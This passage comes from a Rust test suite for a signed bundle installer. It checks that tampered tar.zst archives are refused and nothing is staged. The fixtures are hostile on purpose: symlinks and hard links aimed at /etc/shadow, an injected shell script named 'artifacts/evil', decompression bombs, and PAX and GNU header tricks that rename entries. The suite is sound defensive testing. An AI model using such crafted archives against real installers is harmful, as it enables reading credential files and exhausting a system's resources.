    s.assert_rejected(&path, "expected \"SBOM.cdx.json\"");
    // Signature before manifest.
    let mut e = s.entries();
    e.swap(0, 1);
    let path = s.write("swapped-head", &e);
    s.assert_rejected(&path, "expected \"BUNDLE.json\"");
    // Last artifact first.
    let mut e = s.entries();
    let last = e.pop().unwrap();
    e.insert(3, last);
    let path = s.write("rotated", &e);
    s.assert_rejected(&path, "expected \"artifacts/");
}

#[test]
fn extra_unlisted_entry_is_rejected() {
    let s = Setup::new();
    for at in [2, 3, usize::MAX] {
        let mut e = s.entries();
        let extra = RawEntry::file("artifacts/evil", b"#!/bin/sh\nid\n".to_vec());
        if at == usize::MAX {
            e.push(extra);
        } else {
            e.insert(at, extra);
        }
        let path = s.write(&format!("extra-{at}"), &e);
        s.assert_rejected(&path, "\"artifacts/evil\"");
    }
    // Between manifest and signature.
    let mut e = s.entries();
    e.insert(1, RawEntry::file("BUNDLE.json.extra", b"{}".to_vec()));
    let path = s.write("extra-head", &e);
    s.assert_rejected(&path, "BUNDLE.json.extra");
}

#[test]
fn missing_entry_is_rejected() {
    let s = Setup::new();
    for name in ["containerd", "runc"] {
        let mut e = s.entries();
        e.remove(artifact_index(&e, name));
        let path = s.write(&format!("missing-{name}"), &e);
        s.assert_rejected(&path, &format!("artifacts/{name}"));
    }
    // The manifest alone.
    let e = s.entries();
    let path = s.write("manifest-only", &e[..1]);
    s.assert_rejected(&path, "BUNDLE.json.minisig");
}

#[test]
fn duplicate_entry_is_rejected() {
    let s = Setup::new();
    for name in ["containerd", "runc"] {
        let mut e = s.entries();
        let i = artifact_index(&e, name);
        let dup = e[i].clone();
        e.insert(i + 1, dup);
        let path = s.write(&format!("duplicate-{name}"), &e);
        s.assert_rejected(&path, &format!("artifacts/{name}"));
    }
    // A second copy with other bytes, listed after the original.
    let mut e = s.entries();
    let i = artifact_index(&e, "runc");
    e.insert(i + 1, RawEntry::file("artifacts/runc", b"evil".to_vec()));
    let path = s.write("duplicate-other-bytes", &e);
    s.assert_rejected(&path, "artifacts/runc");
    // The manifest twice.
    let mut e = s.entries();
    let m = e[0].clone();
    e.insert(1, m);
    let path = s.write("duplicate-manifest", &e);
    s.assert_rejected(&path, "BUNDLE.json");
}

/// `runc`'s entry replaced by an entry of type `flag` (same name).
fn retyped(s: &Setup, flag: u8, link: &str, keep_data: bool) -> PathBuf {
    let mut e = s.entries();
    let i = artifact_index(&e, "runc");
    let data = if keep_data {
        e[i].data.clone()
    } else {
        Vec::new()
    };
    e[i] = RawEntry::special("artifacts/runc", flag, link, data);
    s.write(&format!("retyped-{}", char::from(flag)), &e)
}

#[test]
fn symlink_in_place_of_an_artifact_is_rejected() {
    let s = Setup::new();
    let path = retyped(&s, b'2', "/etc/shadow", false);
    s.assert_rejected(&path, "symbolic link");
}

#[test]
fn hard_link_in_place_of_an_artifact_is_rejected() {
    let s = Setup::new();
    let path = retyped(&s, b'1', "artifacts/crictl", false);
    s.assert_rejected(&path, "hard link");
    let path = retyped(&s, b'1', "/etc/shadow", true);
    s.assert_rejected(&path, "hard link");
}

#[test]
fn device_node_in_place_of_an_artifact_is_rejected() {
    let s = Setup::new();
    let path = retyped(&s, b'3', "", false);
    s.assert_rejected(&path, "character device");
    let path = retyped(&s, b'4', "", false);
    s.assert_rejected(&path, "block device");
}

#[test]
fn fifo_in_place_of_an_artifact_is_rejected() {
    let s = Setup::new();
    let path = retyped(&s, b'6', "", false);
    s.assert_rejected(&path, "FIFO");
}

#[test]
fn directory_in_place_of_an_artifact_is_rejected() {
    let s = Setup::new();
    let path = retyped(&s, b'5', "", false);
    s.assert_rejected(&path, "directory");
    // Other types that are not a regular file: contiguous, sparse, old-style
    // regular ('\0' is accepted by tar as a file; the format wants '0').
    for flag in [b'S', b'7', b'V', b'M', b'g'] {
        let path = retyped(&s, flag, "", true);
        s.assert_rejected(&path, "only regular files are allowed");
    }
}

#[test]
fn entry_larger_than_the_manifest_says_is_refused_from_its_header() {
    let s = Setup::new();
    let mut e = s.entries();
    let i = artifact_index(&e, "runc");
    e[i].data.extend(vec![0x41; 4096]);
    let size = e[i].data.len() as u64;
    e[i].set_header_size(size);
    let path = s.write("larger", &e);
    s.assert_rejected(&path, "size mismatch");
    // Header says 64 GiB (the per-artifact limit), the data is short.
    let mut e = s.entries();
    let i = artifact_index(&e, "runc");
    e[i].set_header_size(64 << 30);
    let path = s.write_bytes("larger-header-only", &kit::compress(&kit::tar_bytes(&e)));
    s.assert_rejected(&path, "size mismatch");
}

/// Writes `prefix` then `n` MiB of `byte` as one zstd frame to `path`.
fn write_bomb(path: &Path, prefix: &[u8], byte: u8, mib: usize) {
    let f = std::fs::File::create(path).unwrap();
    let mut z = zstd::stream::write::Encoder::new(f, 3).unwrap();
    z.include_checksum(true).unwrap();
    z.write_all(prefix).unwrap();
    let chunk = vec![byte; 1 << 20];
    for _ in 0..mib {
        z.write_all(&chunk).unwrap();
    }
    z.finish().unwrap();
}

#[test]
fn decompression_bomb_stops_at_the_declared_size_in_bounded_memory() {
    let s = Setup::new();
    // (a) 1 GiB (zeros, then 'A's) following the last artifact's declared
    // bytes: the reader stops right after the declared size.
    let e = s.entries();
    let tar = kit::tar_bytes(&e);
    let without_end = &tar[..tar.len() - 1024];
    for (byte, message) in [(0u8, "unexpected data after the end"), (b'A', "")] {
        let path = s.f.path(&format!("bomb-tail-{byte}.tar.zst"));
        write_bomb(&path, without_end, byte, 1024);
        let started = std::time::Instant::now();
        s.assert_rejected(&path, message);
        assert!(
            started.elapsed() < std::time::Duration::from_secs(20),
            "took {:?}: read the bomb?",
            started.elapsed()
        );
        measure(&s, &path, "verify");
    }
    // (b) An artifact the (re-signed) manifest declares as 512 MiB whose
    // content is not what the manifest says: read to the declared size,
    // never further, in bounded memory, then refused; nothing staged stays.
    let mut e = s.resigned(|m| m["artifacts"]["runc"]["size"] = json!(512u64 << 20));
    let i = artifact_index(&e, "runc");
    e[i].data.clear();
    e[i].set_header_size(512 << 20);
    let head = kit::tar_bytes(&e[..=i]);
    // tar_bytes ends with the end-of-archive blocks; drop them: the data follows.
    let head = &head[..head.len() - 1024];
    let path = s.f.path("bomb-declared.tar.zst");
    write_bomb(&path, head, 0, 512 + 1);
    s.assert_rejected(&path, "sha256 mismatch");
    measure(&s, &path, "verify");
    measure(&s, &path, "install");
    assert!(!s.root.join("var/lib/install-bundle").exists());
}

/// Peak RSS of `install-bundle verify|install` refusing `bundle`.
fn measure(s: &Setup, bundle: &Path, how: &str) {
    let mut args: Vec<std::ffi::OsString> = Vec::new();
    if how == "verify" {
        args.push("verify".into());
        args.push(bundle.into());
        args.push("--trusted-key".into());
        args.push(s.f.keys.public.clone().into());
    } else {
        args = kit::install_args(&s.root, bundle, &s.f.keys.public, &[CIDR]);
    }
    match kit::run_measured(&installer(), args, &[]) {
        Some((out, kib)) => {
            out.code(3);
            eprintln!(
                "{}: install-bundle {how} peak RSS {kib} KiB",
                bundle.display()
            );
            assert!(kib < 64 << 10, "peak RSS {kib} KiB: memory is not bounded");
        }
        None => eprintln!("SKIPPED memory measurement: /usr/bin/time is not installed"),
    }
}

#[test]
fn pax_header_renaming_an_entry_is_rejected() {
    let s = Setup::new();
    // A PAX header that renames the following entry to a listed artifact.
    let mut e = s.entries();
    let i = artifact_index(&e, "runc");
    e[i].set_name("artifacts/evil");
    e.insert(i, RawEntry::pax(&[("path", "artifacts/runc")]));
    let path = s.write("pax-rename", &e);
    s.assert_rejected(&path, "PAX extended header");
    // One that renames the manifest, and a global one.
    let mut e = s.entries();
    e.insert(0, RawEntry::pax(&[("path", "BUNDLE.json"), ("size", "10")]));
    let path = s.write("pax-manifest", &e);
    s.assert_rejected(&path, "PAX extended header");
    let mut e = s.entries();
    let g = RawEntry::special(
        "pax_global_header",
        b'g',
        "",
        b"20 path=artifacts/x\n".to_vec(),
    );
    e.insert(2, g);
    let path = s.write("pax-global", &e);
    s.assert_rejected(&path, "PAX extended header");
}

#[test]
fn gnu_long_name_entry_is_rejected() {
    let s = Setup::new();
    let mut e = s.entries();
    let i = artifact_index(&e, "runc");
    e[i].set_name("artifacts/r");
    e.insert(i, RawEntry::gnu_long_name("artifacts/runc"));
    let path = s.write("gnu-long-name", &e);
    s.assert_rejected(&path, "GNU long-name");
    // A long *link* name ('K') before the signature.
    let mut e = s.entries();
    e.insert(
        1,
        RawEntry::special("././@LongLink", b'K', "", b"x\0".to_vec()),
    );
    let path = s.write("gnu-long-link", &e);
    s.assert_rejected(&path, "GNU long-name");
}

// ---------------------------------------------------------------------------
// 7. Policy: authentic bundles the installer must refuse (exit 4). The single
// cases (expired, downgrade, other arch, os-release) are in installer_cli.rs;
// these check what those do not: every problem is listed at once, nothing is
// staged, and a same-serial replay with a different manifest is refused.
// ---------------------------------------------------------------------------

#[test]
fn expired_downgraded_foreign_bundle_is_refused_before_staging_with_every_reason() {
    let s = Setup::new();
    // Serial 2 installed first.
    let spec2 = s.f.write_spec("spec2.json", 2, &[]);
    let v2 = s.f.build(&spec2, "v2.tar.zst");
    s.install(&v2).code(0);
    // Serial 1, expired, for arm64: authentic (bundler verify accepts it).
    let e = s.resigned(|m| {
        m["expires"] = "2020-01-01T00:00:00Z".into();
        m["target"]["arch"] = "arm64".into();
    });
    let path = s.write("policy", &e);
    s.verify(&path).code(0).stderr_has("expired");
    let staging = s.f.path("staging-watch");
    let before = tree_hash(&s.root);
    let out = kit::install(
        &s.root,
        &path,
        &s.f.keys.public,
        &[CIDR, "--staging-dir", staging.to_str().unwrap()],
        &[],
    );
    out.code(4)
        .stderr_has("expired at 2020-01-01T00:00:00Z")
        .stderr_has("bundle is for linux/arm64")
        .stderr_has("downgrade refused")
        .stderr_has("nothing was changed");
    assert!(
        !staging.exists(),
        "refused by policy, yet staging was created"
    );
    assert_eq!(tree_hash(&s.root), before);
}

#[test]
fn same_serial_with_a_different_manifest_is_refused() {
    let s = Setup::new();
    s.install(&s.good).code(0);
    // Re-signed by the trusted key (a leaked build, an edited release): same
    // serial, different content.
    let e = s.resigned(|m| m["variables"]["CLUSTER_DNS"]["default"] = "10.0.0.53".into());
    let path = s.write("same-serial", &e);
    s.assert_install_refused(&path, 4, "already installed from a different manifest");
}
